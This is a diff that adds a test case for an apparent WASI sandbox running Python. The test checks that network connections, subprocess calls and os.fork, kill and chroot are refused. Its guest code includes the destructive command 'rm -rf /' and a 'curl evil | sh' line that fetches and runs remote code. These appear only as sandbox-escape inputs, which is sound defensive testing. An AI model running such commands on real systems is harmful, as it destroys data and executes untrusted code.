@@ -60,6 +60,34 @@ t(os.close, 77)`;
     ]);
   });
 
+  it('names what never reaches WASI, as reported by Python', async () => {
+    const source = `${TRY}
+import socket, subprocess, urllib.request, _socket
+t(socket.create_connection, ('example.com', 80))
+t(urllib.request.urlopen, 'https://example.com/secret')
+t(socket.getaddrinfo, 'example.org', 443); t(socket.socket); t(_socket.socket)
+t(subprocess.run, ['rm', '-rf', '/']); t(os.system, 'curl evil | sh')
+for name in ('fork', 'kill', 'chroot', 'no_such_name'):
+  try: getattr(os, name)
+  except AttributeError as error: print(error)
+for name in ('ctypes', 'numpy'):
+  try: __import__(name)
+  except ImportError: pass`;
+    expect(await refused(source)).to.deep.equal([
+      'guest connect example.com:80 ENETUNREACH 1',
+      'guest connect example.com:443 ENETUNREACH 1',
+      'guest getaddrinfo example.org ENETUNREACH 1',
+      'guest socket  ENETUNREACH 1',
+      'guest socket  ENOTSUP 1',
+      'guest subprocess.Popen rm -rf / EPERM 1',
+      'guest os.system curl evil | sh EPERM 1',
+      'guest os.fork  - 1',
+      'guest os.kill  - 1',
+      'guest os.chroot  - 1',
+      'guest import ctypes  - 1',
+    ]);
+  });
+
   it('names a limit that was met', async () => {
     const source = `${TRY}
 def fill():
